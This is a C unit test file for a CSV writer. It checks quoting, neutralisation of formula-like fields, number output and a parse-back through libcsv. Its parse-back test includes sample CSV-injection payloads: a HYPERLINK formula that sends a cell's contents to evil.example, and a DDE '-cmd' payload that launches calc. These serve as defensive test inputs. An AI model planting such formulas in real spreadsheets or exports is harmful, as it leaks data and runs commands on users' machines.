/* Unit tests for core/csv_write: quoting, neutralisation, numbers, and a
 * parse-back of hostile fields with libcsv (a reader that is not ours). */
#include "core/csv_write.h"

#include <csv.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

static void test_plain_and_quoted(void **state)
{
    (void)state;
    struct buf b;
    buf_init(&b, 0);
    struct csv_out c;
    csv_out_init(&c, &b);
    csv_text(&c, "plain");
    csv_text(&c, "a,b");
    csv_text(&c, "say \"hi\"");
    csv_text(&c, "two\nlines");
    csv_text(&c, NULL);
    csv_end_row(&c);
    assert_int_equal(csv_out_status(&c), 0);
    assert_string_equal(b.data, "plain,\"a,b\",\"say \"\"hi\"\"\",\"two\nlines\",\r\n");
    buf_free(&b);
}

static void test_neutralised(void **state)
{
    (void)state;
    struct buf b;
    buf_init(&b, 0);
    struct csv_out c;
    csv_out_init(&c, &b);
    csv_text(&c, "=1+1");
    csv_text(&c, "+1");
    csv_text(&c, "-2");
    csv_text(&c, "@SUM(A1)");
    csv_text(&c, "\tx");
    csv_text(&c, "\rx");
    csv_text(&c, "a=b");
    csv_end_row(&c);
    assert_string_equal(b.data, "'=1+1,'+1,'-2,'@SUM(A1),'\tx,\"'\rx\",a=b\r\n");
    buf_reset(&b);
    /* numbers are numbers, a negative one included */
    csv_number(&c, -2.5);
    csv_integer(&c, -7);
    csv_number(&c, 1.0 / 0.0);
    csv_empty(&c);
    csv_end_row(&c);
    assert_string_equal(b.data, "-2.5,-7,,\r\n");
    buf_free(&b);
    assert_true(csv_text_is_formula("=", 1));
    assert_false(csv_text_is_formula("", 0));
    assert_false(csv_text_is_formula("'=", 2));
}

static void test_cap_fails(void **state)
{
    (void)state;
    struct buf b;
    buf_init(&b, 8);
    struct csv_out c;
    csv_out_init(&c, &b);
    csv_text(&c, "0123456789");
    csv_end_row(&c);
    assert_int_equal(csv_out_status(&c), -1);
    buf_free(&b);
}

/* ---- parse-back with libcsv ---- */

struct parsed {
    char *fields[16];
    size_t n, rows;
};

static void on_field(void *s, size_t len, void *data)
{
    struct parsed *p = data;
    assert_true(p->n < 16);
    char *f = malloc(len + 1);
    memcpy(f, s, len);
    f[len] = '\0';
    p->fields[p->n++] = f;
}

static void on_row(int c, void *data)
{
    (void)c;
    ((struct parsed *)data)->rows++;
}

static void test_parse_back(void **state)
{
    (void)state;
    static const char *const hostile[] = {
        "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"x\")",
        "景德镇,\"陶瓷\"有限公司",
        "line one\r\nline two\nthree",
        "-cmd|' /C calc'!A0",
        "\"",
        ",",
        "",
        "普通企业",
    };
    size_t nh = sizeof hostile / sizeof hostile[0];
    struct buf b;
    buf_init(&b, 0);
    struct csv_out c;
    csv_out_init(&c, &b);
    for (size_t i = 0; i < nh; i++)
        csv_text(&c, hostile[i]);
    csv_end_row(&c);
    csv_text(&c, "second");
    csv_end_row(&c);

    struct csv_parser p;
    assert_int_equal(csv_init(&p, CSV_STRICT | CSV_STRICT_FINI), 0);
    struct parsed out = {0};
    assert_int_equal(csv_parse(&p, b.data, b.len, on_field, on_row, &out), b.len);
    assert_int_equal(csv_fini(&p, on_field, on_row, &out), 0);
    csv_free(&p);
    assert_int_equal(out.rows, 2);
    assert_int_equal(out.n, nh + 1);
    for (size_t i = 0; i < nh; i++) {
        const char *want = hostile[i];
        const char *got = out.fields[i];
        if (csv_text_is_formula(want, strlen(want))) {
            assert_int_equal(got[0], CSV_NEUTRAL_PREFIX);
            got++;
        }
        assert_string_equal(got, want);
    }
    assert_string_equal(out.fields[nh], "second");
    for (size_t i = 0; i < out.n; i++)
        free(out.fields[i]);
    buf_free(&b);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_plain_and_quoted),
        cmocka_unit_test(test_neutralised),
        cmocka_unit_test(test_cap_fails),
        cmocka_unit_test(test_parse_back),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
